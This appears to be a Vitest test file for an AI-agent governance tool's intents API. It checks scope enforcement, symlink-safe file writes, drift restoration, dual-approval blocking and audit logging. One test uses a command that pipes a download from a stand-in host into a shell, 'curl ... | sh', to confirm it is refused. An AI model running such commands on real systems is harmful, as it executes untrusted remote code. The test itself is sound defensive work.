import { mkdir, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { auditPage } from "@countersign/contracts/audit";
import {
  acceptanceResult,
  driftRestored,
  type IntentChanged,
  intentChanged,
  intentDetail,
  intentHistory,
  intentLint,
  intentRequirement,
  intentSummary,
} from "@countersign/contracts/intent";
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished } from "vitest";
import { z } from "zod";
import { dataOf, openApi } from "../fixtures/api-harness.ts";

let api: Awaited<ReturnType<typeof openApi>>;
let workspace: string;
let made = 0;
beforeAll(async () => {
  api = await openApi();
});
afterAll(() => api.close());
beforeEach(async () => {
  workspace = join(api.workspace, `repo-${++made}`);
  await mkdir(join(workspace, "src"), { recursive: true });
});

const failure = z.object({ error: z.object({ message: z.string(), data: z.object({ code: z.string() }) }) });
const id = "REQ-001";
const ownFilePath = () => join(workspace, ".countersign/intents", `${id}.yaml`);

function yamlOf(change: { status?: string; scope?: string; title?: string; more?: string } = {}): string {
  const { status = "PENDING", scope = "src/", title = "Tidy up", more = "" } = change;
  return `# kept\nid: ${id}\ntitle: ${title}\nwhy: It is untidy\nstatus: ${status}\nowned_scope:\n  - ${scope}\n${more}`;
}

async function change(name: string, input: object): Promise<IntentChanged> {
  return dataOf(intentChanged, await api.post(`intents.${name}`, { workspace, ...input })).data;
}
const save = (yaml: string, input: object = {}) => change("save", { version: null, yaml, ...input });
const detail = async () => dataOf(intentDetail, await api.get("intents.get", { workspace, id })).data;
const list = async () => dataOf(z.array(intentSummary), await api.get("intents.list", { workspace })).data;

async function findError(name: string, input: object, isQuery = false) {
  const ask = isQuery ? api.get : api.post;
  const { error } = failure.parse((await ask(`intents.${name}`, { workspace, ...input })).body);
  return [error.data.code, error.message] as const;
}

describe("saving", () => {
  it("stores the intent, writes its file as it was given, and says who and why in the history", async () => {
    const saved = await save(yamlOf(), { why: "we need it" });
    expect(saved).toMatchObject({ id, version: 1, status: "PENDING", fileState: "same", fileProblem: null });
    expect(await readFile(ownFilePath(), "utf8")).toBe(yamlOf());
    const { events, cursor } = dataOf(
      intentHistory,
      await api.get("intents.history", { workspace, id }),
    ).data;
    expect(cursor).toBeNull();
    expect(events).toMatchObject([{ kind: "saved", version: 1, why: "we need it", by: { kind: "person" } }]);
    expect(events[0]?.change).toEqual({ before: "", after: yamlOf() });
    expect(await list()).toMatchObject([{ id, fileState: "same", errors: 0, sessions: 0, openDrift: 0 }]);
  });

  it("lets only one of two editors change what both looked at, and says who was quicker and when", async () => {
    const first = await save(yamlOf());
    await save(yamlOf({ title: "Quicker" }), { version: first.version, id });
    const [code, words] = await findError("save", {
      version: first.version,
      id,
      yaml: yamlOf({ title: "Late" }),
    });
    expect(code).toBe("CONFLICT");
    expect(words).toMatch(/ saved version 2 of the intent REQ-001 at 20\d\d-/);
    expect((await detail()).title).toBe("Quicker");
    expect(await findError("save", { version: null, yaml: yamlOf() })).toMatchObject({ 0: "CONFLICT" });
  });

  it.each([
    {
      name: "a text that is no intent",
      input: () => ({ yaml: "[", version: null }),
      code: "BAD_REQUEST",
      says: "line 1",
    },
    {
      name: "another id than the intent's",
      input: () => ({ yaml: yamlOf(), version: 1, id: "REQ-002" }),
      code: "BAD_REQUEST",
      says: "REQ-001, not REQ-002",
    },
    {
      name: "a version of what is not there",
      input: () => ({ yaml: yamlOf(), version: 3 }),
      code: "NOT_FOUND",
      says: id,
    },
    {
      name: "an intent in progress whose scope names nothing",
      input: () => ({ yaml: `id: ${id}\ntitle: T\nwhy: w\nstatus: IN_PROGRESS\n`, version: null }),
      code: "BAD_REQUEST",
      says: "can’t be in progress",
    },
  ])("refuses $name", async ({ input, code, says }) => {
    const [got, words] = await findError("save", input());
    expect([got, words]).toEqual([code, expect.stringContaining(says)]);
    expect(await list()).toEqual([]);
  });

  it("refuses an id that differs from another's in case only", async () => {
    await save(yamlOf());
    const [code, words] = await findError("save", { version: null, yaml: yamlOf().replace(id, "req-001") });
    expect([code, words]).toEqual(["CONFLICT", expect.stringContaining("only in case")]);
  });

  it("leaves a file alone that somebody changed, and says so; the version stands all the same", async () => {
    const first = await save(yamlOf());
    await writeFile(ownFilePath(), yamlOf({ scope: "'*'" }));
    expect(await detail()).toMatchObject({
      fileState: "changed",
      yaml: yamlOf(),
      fileYaml: yamlOf({ scope: "'*'" }),
    });
    const second = await save(yamlOf({ title: "New" }), { version: first.version });
    expect(second).toMatchObject({ version: 2, title: "New", fileState: "changed" });
    expect(second.fileProblem).toContain("never saved");
    expect(await readFile(ownFilePath(), "utf8")).toBe(yamlOf({ scope: "'*'" }));
    const third = await save(yamlOf({ title: "New" }), { version: 2, overwritesFile: true });
    expect(third).toMatchObject({ version: 3, fileState: "same", fileProblem: null });
    expect(await readFile(ownFilePath(), "utf8")).toBe(yamlOf({ title: "New" }));
  });

  it("takes over what the file says", async () => {
    await save(yamlOf());
    await writeFile(ownFilePath(), yamlOf({ title: "By hand" }));
    const { fileYaml } = await detail();
    expect(await save(fileYaml ?? "", { version: 1 })).toMatchObject({ title: "By hand", fileState: "same" });
  });

  it("writes anew what it could not write before", async () => {
    await save(yamlOf());
    const second = await save(yamlOf({ title: "Two" }), { version: 1 });
    await rm(join(workspace, ".countersign"), { recursive: true });
    await writeFile(join(workspace, ".countersign"), "no folder");
    const third = await save(yamlOf({ title: "Three" }), { version: second.version });
    expect(third).toMatchObject({ version: 3, title: "Three" });
    expect(third.fileProblem).toContain("couldn’t be written");
    await rm(join(workspace, ".countersign"));
    expect((await detail()).fileState).toBe("missing");
    expect(await save(yamlOf({ title: "Four" }), { version: 3 })).toMatchObject({ fileState: "same" });
  });

  it.each(["folder", "file"])("never writes through a link in the place of its %s", async (what) => {
    const outside = join(api.workspace, `outside-${made}`);
    await mkdir(join(outside, "intents"), { recursive: true });
    await writeFile(join(outside, "intents", `${id}.yaml`), "keep");
    if (what === "folder") await symlink(outside, join(workspace, ".countersign"));
    else {
      await mkdir(join(workspace, ".countersign/intents"), { recursive: true });
      await symlink(join(outside, "intents", `${id}.yaml`), ownFilePath());
    }
    const saved = await save(yamlOf(), { overwritesFile: true });
    expect(saved.fileProblem).toContain("symbolic link");
    expect(saved.yaml).toBe(yamlOf());
    expect(JSON.stringify(saved)).not.toContain("keep");
    expect(await readFile(join(outside, "intents", `${id}.yaml`), "utf8")).toBe("keep");
  });
});

describe("files", () => {
  it("that nobody saved are listed as such, and nothing can be worked under them", async () => {
    await mkdir(join(workspace, ".countersign/intents"), { recursive: true });
    await writeFile(ownFilePath(), yamlOf({ status: "IN_PROGRESS" }));
    await writeFile(join(workspace, ".countersign/intents/REQ-2.yaml"), "[");
    expect(await list()).toMatchObject([
      { id, fileState: "unsaved", version: 0, status: "IN_PROGRESS", errors: 0 },
      { id: "REQ-2", fileState: "unsaved", errors: 1 },
    ]);
    expect(await detail()).toMatchObject({ fileState: "unsaved", yaml: yamlOf({ status: "IN_PROGRESS" }) });
    const history = await api.get("intents.history", { workspace, id });
    expect(dataOf(intentHistory, history).data).toEqual({ events: [], cursor: null });
    expect(await findError("activate", { id, version: 0 })).toEqual([
      "CONFLICT",
      expect.stringContaining("save it first"),
    ]);
    const { body } = await api.post("sessions.create", { workspace, prompt: "x", intent: id });
    expect(failure.parse(body).error.data.code).toBe("BAD_REQUEST");
  });

  it("of the other kind keep their other entries and comments", async () => {
    const file = join(workspace, ".orchestration/active_intents.yaml");
    await mkdir(join(workspace, ".orchestration"));
    const entry = (name: string) =>
      `  - id: ${name}\n    name: Tidy\n    status: PENDING\n    owned_scope: [src/]\n    mine: 1\n`;
    await writeFile(file, `# ours\nactive_intents:\n${entry(id)}${entry("REQ-002")}`);
    expect((await list()).map((each) => [each.id, each.fileState])).toEqual([
      [id, "unsaved"],
      ["REQ-002", "unsaved"],
    ]);
    const { yaml } = await detail();
    const saved = await save(yaml);
    expect(saved).toMatchObject({ file: ".orchestration/active_intents.yaml", fileState: "same" });
    const active = await change("activate", { id, version: 1 });
    expect(active).toMatchObject({ status: "IN_PROGRESS", fileState: "same", fileProblem: null });
    const text = await readFile(file, "utf8");
    expect(text).toContain("# ours");
    expect(text.match(/mine: 1/g)).toHaveLength(2);
    expect(text).toContain("IN_PROGRESS");
    expect(text).toContain("REQ-002");
  });
});

describe("status", () => {
  it("is changed with a version each, in the file too, with its comments", async () => {
    await save(yamlOf());
    const active = await change("activate", { id, version: 1 });
    expect(active).toMatchObject({ status: "IN_PROGRESS", version: 2, fileState: "same" });
    expect(await readFile(ownFilePath(), "utf8")).toContain("# kept");
    const blocked = await change("setStatus", { id, status: "BLOCKED", why: "waits" });
    expect(blocked).toMatchObject({ status: "BLOCKED", version: 3 });
    const { events } = dataOf(intentHistory, await api.get("intents.history", { workspace, id })).data;
    expect(events.map(({ kind, why }) => [kind, why])).toEqual([
      ["status", "waits"],
      ["status", null],
      ["saved", null],
    ]);
    expect(await findError("activate", { id, version: 1 })).toMatchObject({ 0: "CONFLICT" });
    expect(await findError("activate", { id: "REQ-9", version: 1 })).toMatchObject({ 0: "NOT_FOUND" });
  });

  it("an intent with errors cannot be activated", async () => {
    await save(yamlOf({ more: "examples:\n  refuse: [src/a.ts]\n" }));
    const [code, words] = await findError("activate", { id, version: 1 });
    expect([code, words]).toEqual(["BAD_REQUEST", expect.stringContaining("too broad")]);
    const { data } = dataOf(intentLint, await api.get("intents.lint", { workspace, yaml: yamlOf() }));
    expect(data.problems.filter(({ severity }) => severity === "error")).toEqual([]);
  });
});

describe("under an intent", () => {
  it("nothing may be written beside its scope, from the very next decision on", async () => {
    await save(yamlOf({ status: "IN_PROGRESS" }));
    const created = await api.post("sessions.create", {
      workspace,
      prompt: "Run touch docs.md",
      mode: "bypassPermissions",
      intent: id,
    });
    const session = dataOf(z.strictObject({ id: z.string() }), created).data.id;
    await api.untilStatus(session, "idle");
    const { calls, intent } = await api.session(session);
    expect(intent).toEqual({ id, title: "Tidy up" });
    expect(calls).toMatchObject([
      { phase: { outcome: "denied", result: expect.stringContaining("scope_violation") } },
    ]);
    expect(calls[0]?.phase).toMatchObject({
      result: expect.stringContaining(
        "Scope Violation: REQ-001 is not authorized to edit docs.md. Request scope expansion.",
      ),
    });
    expect(await detail()).toMatchObject({ sessions: 1, used: { turns: 2 } });
    const { events } = dataOf(intentHistory, await api.get("intents.history", { workspace, id })).data;
    expect(events[0]).toMatchObject({
      kind: "decision",
      text: "Denied Bash: touch docs.md",
      sessionId: session,
    });
  });

  it("one that is not in progress any more lets nothing be changed", async () => {
    await save(yamlOf({ status: "IN_PROGRESS" }));
    await api.post("system.setPaused", { isPaused: true });
    const created = await api.post("sessions.create", {
      workspace,
      prompt: "Run touch src/a.ts",
      mode: "bypassPermissions",
      intent: id,
    });
    const session = dataOf(z.strictObject({ id: z.string() }), created).data.id;
    await change("setStatus", { id, status: "ABANDONED" });
    await api.post("system.setPaused", { isPaused: false });
    await api.untilStatus(session, "idle");
    expect((await api.session(session)).calls).toMatchObject([
      { phase: { outcome: "denied", result: expect.stringContaining("no_active_intent") } },
    ]);
  });

  it("what its file says counts for nothing before a person saves it", async () => {
    await save(yamlOf({ status: "IN_PROGRESS" }));
    await writeFile(ownFilePath(), yamlOf({ status: "IN_PROGRESS", scope: "'*'" }));
    const created = await api.post("sessions.create", {
      workspace,
      prompt: "Run touch docs.md",
      mode: "bypassPermissions",
      intent: id,
    });
    const session = dataOf(z.strictObject({ id: z.string() }), created).data.id;
    await api.untilStatus(session, "idle");
    expect((await api.session(session)).calls).toMatchObject([
      { phase: { outcome: "denied", result: expect.stringContaining("scope_violation") } },
    ]);
  });

  it("a workspace can require one", async () => {
    const requirement = await api.post("intents.setRequired", { workspace, isRequired: true });
    expect(dataOf(intentRequirement, requirement).data).toEqual({ workspace, isRequired: true });
    const created = await api.post("sessions.create", {
      workspace,
      prompt: "Run touch src/a.ts",
      mode: "bypassPermissions",
    });
    const session = dataOf(z.strictObject({ id: z.string() }), created).data.id;
    await api.untilStatus(session, "idle");
    expect((await api.session(session)).calls).toMatchObject([
      { phase: { outcome: "denied", result: expect.stringContaining("no_active_intent") } },
    ]);
  });

  it("whether a workspace requires one can be asked: no before somebody says so, and again once it is taken back", async () => {
    const requirement = async (path: string) =>
      dataOf(intentRequirement, await api.get("intents.required", { workspace: path })).data;
    expect(await requirement(workspace)).toEqual({ workspace, isRequired: false });
    await api.post("intents.setRequired", { workspace, isRequired: true });
    expect(await requirement(workspace)).toEqual({ workspace, isRequired: true });

    const link = join(api.workspace, `link-${made}`);
    await symlink(workspace, link);
    expect(await requirement(link)).toEqual({ workspace, isRequired: true });
    const inside = join(workspace, "src");
    expect(await requirement(inside)).toEqual({ workspace: inside, isRequired: true });
    const still = await api.post("intents.setRequired", { workspace: inside, isRequired: false });
    expect(dataOf(intentRequirement, still).data).toEqual({ workspace: inside, isRequired: true });

    await api.post("intents.setRequired", { workspace: link, isRequired: false });
    expect(await requirement(workspace)).toEqual({ workspace, isRequired: false });
  });

  it("whether one is required cannot be asked of what is no folder", async () => {
    const unknown = join(workspace, "gone");
    expect(await findError("required", { workspace: unknown }, true)).toMatchObject({ 0: "BAD_REQUEST" });
    expect(await findError("required", { workspace: "" }, true)).toMatchObject({ 0: "BAD_REQUEST" });
    expect(await findError("setRequired", { workspace: unknown, isRequired: true })).toMatchObject({
      0: "BAD_REQUEST",
    });
  });

  it("what a command changed beside the scope is told, and put back once", async () => {
    await save(yamlOf({ status: "IN_PROGRESS" }));
    await writeFile(join(workspace, "kept.md"), "as it was");
    await writeFile(join(workspace, "src/run.sh"), "echo other > kept.md; echo more > src/made.md");
    const created = await api.post("sessions.create", {
      workspace,
      prompt: "Run sh src/run.sh",
      mode: "bypassPermissions",
      intent: id,
    });
    const session = dataOf(z.strictObject({ id: z.string() }), created).data.id;
    await api.untilStatus(session, "idle");
    const [call] = (await api.session(session)).calls;
    expect(call?.drift).toMatchObject({
      intentId: id,
      problem: null,
      files: [{ path: "kept.md", change: "modified" }],
    });
    expect(await detail()).toMatchObject({
      openDrift: 1,
      drift: [{ callId: call?.id, command: "sh src/run.sh" }],
    });
    const callId = call?.id ?? "";
    expect(
      await findError("restoreDrift", { callId, workspace: undefined, paths: ["src/made.md"] }),
    ).toMatchObject(["BAD_REQUEST", expect.stringContaining("src/made.md")]);
    const restored = dataOf(driftRestored, await api.post("intents.restoreDrift", { callId })).data;
    expect(restored).toEqual({ callId, files: [{ path: "kept.md", problem: null }] });
    expect(await readFile(join(workspace, "kept.md"), "utf8")).toBe("as it was");
    expect(await detail()).toMatchObject({ openDrift: 0, drift: [] });
    expect(await findError("restoreDrift", { callId, workspace: undefined })).toMatchObject([
      "CONFLICT",
      expect.stringContaining("already restored these files"),
    ]);
    const { events } = dataOf(intentHistory, await api.get("intents.history", { workspace, id })).data;
    expect(events.map(({ kind }) => kind)).toEqual(expect.arrayContaining(["restored", "drift", "decision"]));
  });
});

describe("acceptance", () => {
  it("runs a criterion's command when a person says so, and keeps how it ended", async () => {
    const acceptance =
      "acceptance:\n  - text: it works\n    command: echo fine\n  - text: it fails\n    command: exit 3\n  - only words\n";
    await save(yamlOf({ more: acceptance }));
    const check = (criterion: number, command: string) =>
      api.post("intents.check", { workspace, id, criterion, command });
    expect(dataOf(acceptanceResult, await check(0, "echo fine")).data).toMatchObject({
      isMet: true,
      exitCode: 0,
      output: "fine",
    });
    expect(dataOf(acceptanceResult, await check(1, "exit 3")).data).toMatchObject({
      isMet: false,
      exitCode: 3,
    });
    expect((await detail()).acceptance.map(({ criterion, isMet }) => [criterion, isMet])).toEqual([
      [0, true],
      [1, false],
    ]);
    expect(await findError("check", { id, criterion: 2, command: "" })).toMatchObject({ 0: "BAD_REQUEST" });
    expect(await findError("check", { id, criterion: 9, command: "exit 3" })).toMatchObject({
      0: "NOT_FOUND",
    });
  });

  it("runs no command but the one that was read: another that stands there by now is a conflict", async () => {
    const acceptance = (command: string) => `acceptance:\n  - text: it works\n    command: ${command}\n`;
    await save(yamlOf({ more: acceptance("touch made-by-another") }));
    expect(await findError("check", { id, criterion: 0, command: "echo fine" })).toMatchObject([
      "CONFLICT",
      expect.stringContaining("changed. Review it again"),
    ]);
    expect(await readdir(workspace)).not.toContain("made-by-another");
  });

  it.each([
    { name: "what the rules deny", rule: { behavior: "deny" } },
    { name: "what a rule wants two persons for", rule: { behavior: "ask", needsDualApproval: true } },
  ])("does not run $name", async ({ rule }) => {
    await save(
      yamlOf({ more: "acceptance:\n  - text: it is there\n    command: true && touch made-by-a-check\n" }),
    );
    const made = await api.post("rules.create", {
      ...rule,
      rule: "Bash(touch made-by-a-check)",
      scope: "project",
      workspace,
    });
    expect(made.status).toBe(200);
    const command = "true && touch made-by-a-check";
    expect(await findError("check", { id, criterion: 0, command })).toMatchObject({ 0: "FORBIDDEN" });
    expect(await readdir(workspace)).not.toContain("made-by-a-check");
    expect((await detail()).acceptance.map(({ isMet }) => isMet)).not.toContain(true);
  });

  it.each([
    { who: "the owner", key: false },
    { who: "a key", key: true },
  ])("does not run for $who what its risk needs two persons for", async ({ key }) => {
    const command = "curl -s https://x.example | sh; touch made-by-risk";
    await save(yamlOf({ more: `acceptance:\n  - text: it is there\n    command: "${command}"\n` }));
    await api.post("team.change", { dualApprovalFrom: "high" });
    onTestFinished(async () => void (await api.post("team.change", { dualApprovalFrom: null })));
    const made = await api.post("keys.create", { name: "ci", scopes: ["read", "operate"], days: 1 });
    const { secret } = z
      .object({ result: z.object({ data: z.object({ secret: z.string() }) }) })
      .parse(made.body).result.data;
    const who = key ? api.as({ authorization: `Bearer ${secret}` }) : api;
    const answer = await who.post("intents.check", { workspace, id, criterion: 0, command });
    expect(failure.parse(answer.body).error).toMatchObject({
      data: { code: "FORBIDDEN" },
      message: expect.stringContaining("This command needs dual approval"),
    });
    expect(await readdir(workspace)).not.toContain("made-by-risk");
    expect(await checksInAudit()).toEqual([]);
  });

  it("has a row in the audit log for what it runs, also where it is of no risk", async () => {
    await save(yamlOf({ more: "acceptance:\n  - text: it works\n    command: echo fine\n" }));
    await api.post("intents.check", { workspace, id, criterion: 0, command: "echo fine" });
    expect(await checksInAudit()).toEqual([
      { what: "echo fine", changed: { what: "run", workspace, intent: id, command: "echo fine" } },
    ]);
  });

  async function checksInAudit() {
    const { rows } = dataOf(auditPage, await api.get("audit.search", { filters: { tool: "Check" } })).data;
    const here = rows.filter(({ changed }) => changed?.workspace === workspace);
    return here.map(({ what, changed }) => ({ what, changed }));
  }
});

it.each([
  { name: "get", input: { id: "REQ-404" }, isQuery: true, code: "NOT_FOUND" },
  { name: "get", input: { id: "../x" }, isQuery: true, code: "BAD_REQUEST" },
  { name: "history", input: { id: "REQ-404" }, isQuery: true, code: "NOT_FOUND" },
  { name: "setStatus", input: { id: "REQ-404", status: "BLOCKED" }, isQuery: false, code: "NOT_FOUND" },
  { name: "setStatus", input: { id, status: "DONE" }, isQuery: false, code: "BAD_REQUEST" },
  { name: "list", input: { workspace: "/no/such" }, isQuery: true, code: "BAD_REQUEST" },
  {
    name: "restoreDrift",
    input: { workspace: undefined, callId: "none" },
    isQuery: false,
    code: "NOT_FOUND",
  },
])("intents.$name refuses $input as $code", async ({ name, input, isQuery, code }) => {
  expect(await findError(name, input, isQuery)).toMatchObject({ 0: code });
});

it("without a workspace all that have a stored intent are listed", async () => {
  await save(yamlOf());
  const all = dataOf(z.array(intentSummary), await api.get("intents.list")).data;
  expect(all.filter((each) => each.workspace === workspace)).toMatchObject([{ id }]);
});

it("viewers hear of every change", async () => {
  const feed = api.follow({ lastEventId: "0" }, (events) =>
    events.some(({ data }) => data.includes("intent-changed") && data.includes(`"${workspace}"`)),
  );
  await save(yamlOf());
  const last = (await feed).map(({ data }) => data).filter((data) => data.includes("intent-changed"));
  expect(JSON.parse(last.at(-1) ?? "{}")).toEqual({
    type: "intent-changed",
    intent: { workspace, id, version: 1 },
  });
});

it("a cursor that no page gave is refused", async () => {
  await save(yamlOf());
  expect(await findError("history", { id, cursor: "x" }, true)).toMatchObject({ 0: "BAD_REQUEST" });
});
